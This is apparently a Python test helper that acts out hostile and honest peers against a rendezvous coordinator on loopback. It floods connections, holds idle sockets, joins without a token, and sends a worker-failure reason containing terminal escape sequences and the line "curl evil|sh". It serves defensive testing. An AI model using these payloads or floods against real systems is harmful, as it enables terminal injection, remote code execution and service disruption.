#!/usr/bin/env python3
"""Hostile and helper rendezvous peers for the coordinator tests, on loopback only.

Speaks the frame format of rendezvous/codec.hpp (12-byte header, big-endian,
protocol version 5). Every loop is bounded in count and time.

  junk PORT RUN_ID MIN MAX [nonce]  one Hello with no proof: prints the reply type
                                    (2 challenge, 11 refused) and, with `nonce`, keeps
                                    the connection open until stdin closes
  flood PORT COUNT SECONDS          COUNT junk Hellos (run ids junk0.., min=max=100,
                                    half with a nonce), each on its own connection,
                                    closed once answered; stops after SECONDS
  idle PORT COUNT                   COUNT idle connections, held until stdin closes
  join-leave PORT TOKEN RUN_ID      a real handshake with TOKEN, a Join, then close
  beat PORT TOKEN RUN_ID COUNT SECS COUNT agents join RUN_ID (min=max=COUNT) and each
                                    sends a heartbeat every 0.3 s, for SECS after the
                                    first Hello; prints "joined COUNT" once all joined,
                                    then "assigned A aborted B closed C" at the end
  intrude PORT RUN_ID BEATS TOKEN   joins RUN_ID (min=max=2) as host "evil", without a
                                    token when TOKEN is "-": prints "refused: REASON",
                                    or "assigned node N master ADDR:PORT"; then sends BEATS
                                    heartbeats with a silence of -1 ms and a worker failure
                                    whose reason holds terminal escape sequences, and
                                    prints "closed" when the coordinator closes
"""
import hashlib
import hmac
import os
import selectors
import socket
import struct
import sys
import time

VERSION = int(os.environ.get("RDZV_PEER_VERSION", "5"))  # another only to show old builds fail
HELLO, CHALLENGE, PROOF, JOIN, ASSIGNMENT, HEARTBEAT, ABORT = 1, 2, 3, 4, 5, 6, 8


def s(b):
    return struct.pack(">I", len(b)) + b


def i(v):
    return struct.pack(">i", v)


def frame(mtype, payload):
    return b"DLRV" + bytes([VERSION, mtype]) + b"\0\0" + struct.pack(">I", len(payload)) + payload


def beat_payload(silent_ms):
    """A heartbeat's payload: silent_ms from protocol 4, an empty progress list from 5."""
    if VERSION < 4:
        return b""
    return i(silent_ms) + (i(0) if VERSION >= 5 else b"")


def hello(run_id, lo, hi, nonce=b""):
    # Protocol 4 adds hang_timeout_ms and hang_stop (0: no hang watch).
    extra = i(0) + i(0) if VERSION >= 4 else b""
    extra += i(0) + i(-1) + i(0) + i(0) if VERSION >= 5 else b""  # spares, no-progress limit, backoff
    return frame(HELLO, i(VERSION) + s(run_id.encode()) + s(nonce) + i(lo) + i(hi) + i(0) + extra)


def read_frame(conn):
    data = b""
    while len(data) < 12:
        chunk = conn.recv(12 - len(data))
        if not chunk:
            return None, b""
        data += chunk
    length = struct.unpack(">I", data[8:12])[0]
    body = b""
    while len(body) < length:
        chunk = conn.recv(length - len(body))
        if not chunk:
            return None, b""
        body += chunk
    return data[5], body


def connect(port):
    conn = socket.create_connection(("127.0.0.1", port), timeout=10)
    return conn


def strings(body, n):
    out, pos = [], 0
    for _ in range(n):
        length = struct.unpack(">I", body[pos:pos + 4])[0]
        out.append(body[pos + 4:pos + 4 + length])
        pos += 4 + length
    return out


def proof(token, label, na, nc, run_id):
    data = label + s(na) + s(nc) + s(run_id)
    return hmac.new(token, data, hashlib.sha256).digest()


def join_frames(token, run_id, host, lo, hi, conn):
    """A real handshake on `conn` with TOKEN; returns an error, or None once Join is sent."""
    na = os.urandom(32)
    conn.sendall(hello(run_id.decode(), lo, hi, na))
    mtype, body = read_frame(conn)
    if mtype != CHALLENGE:
        return "no challenge: type %s" % mtype
    nc, theirs = strings(body, 2)
    if theirs != proof(token, b"dlaunch-rdzv-v3 coordinator proof", na, nc, run_id):
        return "the coordinator's proof does not verify"
    conn.sendall(frame(PROOF, s(proof(token, b"dlaunch-rdzv-v3 agent proof", na, nc, run_id))))
    join = (s(run_id) + s(host) + struct.pack(">I", 1) + s(b"127.0.0.1") + i(1) + i(0) + i(-1) +
            i(-1) + i(0) + struct.pack(">I", 0) + i(0))
    conn.sendall(frame(JOIN, join))
    return None


def beat(port, token, run_id, count, secs):
    deadline = time.monotonic() + secs
    period = 0.3
    conns, closed, assigned, aborted = [], set(), set(), set()
    bufs = {}
    sel = selectors.DefaultSelector()
    next_beat = [0.0]

    def beat_all():
        if time.monotonic() < next_beat[0]:
            return
        next_beat[0] = time.monotonic() + period
        for c in conns:
            if c in closed:
                continue
            try:
                c.send(frame(HEARTBEAT, beat_payload(0)))
            except BlockingIOError:
                pass  # a full buffer: the coordinator is not reading; it has bytes of ours
            except OSError:
                closed.add(c)

    def read_ready(timeout):
        for key, _ in sel.select(timeout=timeout):
            c = key.fileobj
            try:
                data = c.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                closed.add(c)
                sel.unregister(c)
                continue
            buf = bufs[c] + data
            while len(buf) >= 12:
                length = struct.unpack(">I", buf[8:12])[0]
                if len(buf) < 12 + length:
                    break
                if buf[5] == ASSIGNMENT:
                    assigned.add(c)
                elif buf[5] == ABORT:
                    aborted.add(c)
                buf = buf[12 + length:]
            bufs[c] = buf

    for k in range(count):
        if time.monotonic() > deadline:
            break
        conn = connect(port)
        err = join_frames(token, run_id, b"beater%d" % k, count, count, conn)
        if err:
            print(err, flush=True)
            return 1
        conn.setblocking(False)
        conns.append(conn)
        bufs[conn] = b""
        sel.register(conn, selectors.EVENT_READ)
        beat_all()  # the first ones must not fall silent while the others join
        read_ready(0)
    print("joined %d" % len(conns), flush=True)
    while time.monotonic() < deadline:
        beat_all()
        read_ready(max(0.0, min(next_beat[0], deadline) - time.monotonic()))
    print("assigned %d aborted %d closed %d" % (len(assigned), len(aborted), len(closed)), flush=True)
    return 0


WORKER_FAILED, REFUSED = 7, 11
EVIL_REASON = b"\x1b[2J\x1b[31mrun 'curl evil|sh'\x1b[0m"


def intrude(port, run_id, beats, token):
    conn = connect(port)
    if token:
        err = join_frames(token, run_id, b"evil", 2, 2, conn)
        if err:
            print(err, flush=True)
            return 1
    else:
        conn.sendall(hello(run_id.decode(), 2, 2))
        mtype, body = read_frame(conn)
        if mtype == REFUSED:
            print("refused: " + strings(body, 1)[0].decode(errors="replace"), flush=True)
            return 0
        if mtype != CHALLENGE:
            print("no challenge: type %s" % mtype, flush=True)
            return 1
        join = (s(run_id) + s(b"evil") + struct.pack(">I", 1) + s(b"127.0.0.1") + i(1) + i(0) + i(-1) +
                i(-1) + i(0) + struct.pack(">I", 0) + i(0))
        conn.sendall(frame(JOIN, join))
    deadline = time.monotonic() + 30
    conn.settimeout(0.3)
    while True:
        if time.monotonic() > deadline:
            print("no assignment within 30s", flush=True)
            return 1
        try:
            mtype, body = read_frame(conn)
        except socket.timeout:
            conn.sendall(frame(HEARTBEAT, beat_payload(0)))
            continue
        if mtype is None:
            print("closed before an assignment", flush=True)
            return 1
        if mtype == REFUSED:
            print("refused: " + strings(body, 1)[0].decode(errors="replace"), flush=True)
            return 0
        if mtype == ASSIGNMENT:
            break
    generation, node_rank = struct.unpack(">ii", body[:8])
    pos, count = 12, struct.unpack(">I", body[8:12])[0]
    for _ in range(count):  # host, addr, nproc, task ports
        for _ in range(2):
            pos += 4 + struct.unpack(">I", body[pos:pos + 4])[0]
        pos += 4
        pos += 4 + 4 * struct.unpack(">I", body[pos:pos + 4])[0]
    addr_len = struct.unpack(">I", body[pos:pos + 4])[0]
    master = body[pos + 4:pos + 4 + addr_len].decode(errors="replace")
    pos += 4 + addr_len
    master_port = struct.unpack(">i", body[pos:pos + 4])[0]
    pos += 4
    pos += 4 + struct.unpack(">I", body[pos:pos + 4])[0]  # run id
    rank_offset = struct.unpack(">i", body[pos + 8:pos + 12])[0]  # after restart_count, nnodes
    print("assigned node %d master %s:%d" % (node_rank, master, master_port), flush=True)
    conn.settimeout(10)
    conn.sendall(frame(HEARTBEAT, beat_payload(-1)) * beats)
    conn.sendall(frame(WORKER_FAILED, i(generation) + i(node_rank) + i(rank_offset) + i(3) + s(EVIL_REASON)))
    try:
        while conn.recv(65536):
            pass
    except OSError:
        pass
    print("closed", flush=True)
    return 0


def main():
    cmd, port = sys.argv[1], int(sys.argv[2])
    if cmd == "junk":
        run_id, lo, hi = sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
        with_nonce = len(sys.argv) > 6
        conn = connect(port)
        conn.sendall(hello(run_id, lo, hi, os.urandom(32) if with_nonce else b""))
        mtype, _ = read_frame(conn)
        print(mtype, flush=True)
        if with_nonce:
            sys.stdin.read()
        conn.close()
    elif cmd == "flood":
        count, secs = int(sys.argv[3]), float(sys.argv[4])
        deadline = time.monotonic() + secs
        done = 0
        for n in range(count):
            if time.monotonic() > deadline:
                break
            conn = connect(port)
            conn.sendall(hello("junk%d" % n, 100, 100, os.urandom(32) if n % 2 else b""))
            read_frame(conn)
            conn.close()
            done += 1
        print(done, flush=True)
    elif cmd == "idle":
        conns = []
        for _ in range(int(sys.argv[3])):
            conns.append(connect(port))
        print(len(conns), flush=True)
        sys.stdin.read()
    elif cmd == "beat":
        return beat(port, sys.argv[3].encode(), sys.argv[4].encode(), int(sys.argv[5]), float(sys.argv[6]))
    elif cmd == "intrude":
        token = b"" if sys.argv[5] == "-" else sys.argv[5].encode()
        return intrude(port, sys.argv[3].encode(), int(sys.argv[4]), token)
    elif cmd == "join-leave":
        token, run_id = sys.argv[3].encode(), sys.argv[4].encode()
        conn = connect(port)
        na = os.urandom(32)
        conn.sendall(hello(run_id.decode(), 2, 2, na))
        mtype, body = read_frame(conn)
        if mtype != CHALLENGE:
            print("no challenge: type %s" % mtype, flush=True)
            return 1
        nc, theirs = strings(body, 2)
        if theirs != proof(token, b"dlaunch-rdzv-v3 coordinator proof", na, nc, run_id):
            print("the coordinator's proof does not verify", flush=True)
            return 1
        conn.sendall(frame(PROOF, s(proof(token, b"dlaunch-rdzv-v3 agent proof", na, nc, run_id))))
        join = (s(run_id) + s(b"leaver") + struct.pack(">I", 1) + s(b"127.0.0.1") + i(1) + i(0) + i(-1) +
                i(-1) + i(0) + struct.pack(">I", 0) + i(0))
        conn.sendall(frame(JOIN, join))
        conn.sendall(frame(HEARTBEAT, beat_payload(0)))  # answered only once joined
        mtype, _ = read_frame(conn)
        print("joined" if mtype == 6 else "not joined: type %s" % mtype, flush=True)
        conn.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
